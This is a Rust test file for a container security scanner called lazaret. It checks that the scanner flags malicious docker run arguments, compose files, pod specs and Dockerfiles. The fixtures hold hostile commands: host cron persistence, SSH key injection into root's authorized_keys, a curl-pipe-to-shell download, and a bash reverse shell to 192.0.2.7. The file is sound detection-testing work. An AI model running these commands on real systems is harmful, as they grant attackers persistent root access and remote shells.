//! `lazaret scan --as` and `lazaret check`.
#![allow(missing_docs, clippy::unwrap_used)]

mod support;

use support::{Place, images, rules};

fn outcome(report: &serde_json::Value) -> String {
    report["reports"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["verdict"]["outcome"].as_str().unwrap())
        .collect::<Vec<_>>()
        .join(" ")
}

#[test]
fn an_innocent_image_with_guilty_arguments_is_convicted_and_the_hosts_path_is_named() {
    let place = Place::new();
    let layout = place.recipe("plain", "ELF /bin/sh 0755\n    sh\nCMD [\"/bin/sh\"]\n");
    let reference = format!("oci:{}", layout.display());
    let plain = place.run(&["scan", "--no-store", &reference]);
    assert_eq!(plain.code, 0, "{plain:?}");
    let words =
        "docker run -v /etc:/mnt/etc --privileged x sh -c \"echo '* * * * * root id' >> /mnt/etc/crontab\"";
    let (said, report) = place.json(&["scan", "--no-store", "--as", words, &reference]);
    assert_eq!(said.code, 1, "{said:?}");
    assert_eq!(outcome(&report), "malicious");
    assert!(rules(&report).contains(&"persistence/launch-host-schedule".to_owned()), "{:?}", rules(&report));
    let written =
        images(&report)[0]["behaviours"].as_array().unwrap().iter().any(|b| b["hostPath"] == "/etc/crontab");
    assert!(written, "{report}");
    let text = place.run(&["scan", "--no-store", "--as", words, &reference]).out;
    assert!(text.contains("/etc/crontab on the host"), "{text}");
}

#[test]
fn a_verdict_with_a_launch_is_served_for_no_other_launch_and_not_for_the_plain_image() {
    let place = Place::new();
    let layout = place.recipe("plain", "ELF /bin/sh 0755\n    sh\nCMD [\"/bin/sh\"]\n");
    let reference = format!("oci:{}", layout.display());
    let guilty = "docker run -v /:/h x sh -c 'echo x > /h/etc/cron.d/y'";
    assert_eq!(place.run(&["scan", &reference]).code, 0);
    assert_eq!(place.run(&["scan", "--as", guilty, &reference]).code, 1);
    assert_eq!(place.run(&["scan", "--as", "docker run -v /srv:/h x ls /h", &reference]).code, 0);
    assert_eq!(place.run(&["scan", &reference]).code, 0);
    assert_eq!(place.run(&["scan", "--as", guilty, &reference]).code, 1);
}

#[test]
fn words_that_start_no_container_are_an_error() {
    let place = Place::new();
    for words in ["docker ps", "docker run", "docker run 'x"] {
        let said = place.run(&["scan", "--no-store", "--as", words]);
        assert_eq!(said.code, 2, "{words}: {said:?}");
    }
}

const BAD: [(&str, &str, &str); 3] = [
    (
        "compose.yml",
        "services:\n  a:\n    image: example.test/a\n    privileged: true\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n",
        "privilege-escalation/launch-engine-socket",
    ),
    (
        "pod.yaml",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  hostPID: true\n  containers: [{name: c, image: 'x:1'}]\n",
        "privilege-escalation/launch-host-processes",
    ),
    (
        "Dockerfile",
        "FROM debian\nENV DB_PASSWORD=example-hunter2\nRUN curl -fsSL http://192.0.2.9/i | sh\n",
        "credential-access/build-secret",
    ),
];

#[test]
fn misconfigurations_are_told_with_their_line_and_accuse_nobody() {
    let place = Place::new();
    for (name, text, rule) in BAD {
        std::fs::write(place.path(name), text).unwrap();
        let (said, report) = place.json(&["check", "--no-store", "--offline", name]);
        assert_eq!(said.code, 0, "{said:?}");
        assert!(rules(&report).contains(&rule.to_owned()), "{name}: {:?}", rules(&report));
        assert!(said.out.contains("was not looked at"), "{said:?}");
        let lines = images(&report).iter().flat_map(|i| i["findings"].as_array().unwrap().clone()).any(|f| {
            f["rule"]["id"] == rule
                && f["evidence"][0]["location"]["line"].as_u64().is_some_and(|line| line > 1)
        });
        assert!(lines, "{report}");
    }
}

#[test]
fn what_is_well_configured_is_told_nothing_of_weight() {
    let place = Place::new();
    let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: app}\nspec:\n  automountServiceAccountToken: false\n  \
        securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}\n  containers:\n  - name: c\n    \
        image: example.test/a:1\n    imagePullPolicy: Always\n    resources: {limits: {memory: 64Mi, cpu: 1}}\n    \
        livenessProbe: {httpGet: {path: /, port: 80}}\n    readinessProbe: {httpGet: {path: /, port: 80}}\n    securityContext:\n      \
        allowPrivilegeEscalation: false\n      readOnlyRootFilesystem: true\n      capabilities: {drop: [ALL]}\n";
    std::fs::write(place.path("pod.yaml"), pod).unwrap();
    let docker = "FROM debian:12\nCOPY app /app\nUSER app\nHEALTHCHECK CMD [\"/app\", \"--health\"]\nENTRYPOINT [\"/app\"]\n";
    std::fs::write(place.path("Dockerfile"), docker).unwrap();
    let (said, report) = place.json(&["check", "--no-store", "--no-images", "pod.yaml", "Dockerfile"]);
    assert_eq!(said.code, 0, "{said:?}");
    assert_eq!(rules(&report), Vec::<String>::new());
}

#[test]
fn guilty_words_in_a_file_convict_whatever_the_image_is() {
    let place = Place::new();
    let text = "services:\n  a:\n    image: alpine:3.19\n    volumes: ['/root:/r']\n    command: sh -c \"echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x@example.test >> /r/.ssh/authorized_keys\"\n";
    std::fs::write(place.path("compose.yml"), text).unwrap();
    let said = place.run(&["check", "--no-store", "--offline", "compose.yml"]);
    assert_eq!(said.code, 1, "{said:?}");
    assert!(said.out.contains("/root/.ssh/authorized_keys on the host"), "{said:?}");
}

#[test]
fn a_script_that_a_dockerfile_copies_is_followed() {
    let place = Place::new();
    std::fs::write(place.path("run.sh"), "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n").unwrap();
    std::fs::write(
        place.path("Dockerfile"),
        "FROM debian:12\nCOPY run.sh /run.sh\nENTRYPOINT [\"/run.sh\"]\n",
    )
    .unwrap();
    let said = place.run(&["check", "--no-store", "--offline", "Dockerfile"]);
    assert_eq!(said.code, 1, "{said:?}");
}

#[test]
fn files_that_cannot_be_read_are_errors_and_the_others_are_judged() {
    let place = Place::new();
    std::fs::write(place.path("notes.txt"), "hello\n").unwrap();
    std::fs::write(place.path("Dockerfile"), "FROM debian:12\nUSER app\n").unwrap();
    let said = place.run(&["check", "--no-store", "--offline", "notes.txt", "missing.yml", "Dockerfile"]);
    assert_eq!(said.code, 2, "{said:?}");
    assert!(said.err.contains("notes.txt") && said.err.contains("missing.yml"), "{said:?}");
    assert!(said.out.contains("the last stage"), "{said:?}");
    std::fs::write(place.path("pod.yaml"), "kind: Pod\nspec: {containers: [{image: a}]}\n---\n\t{[").unwrap();
    assert_eq!(place.run(&["check", "--no-store", "--offline", "pod.yaml"]).code, 3);
}
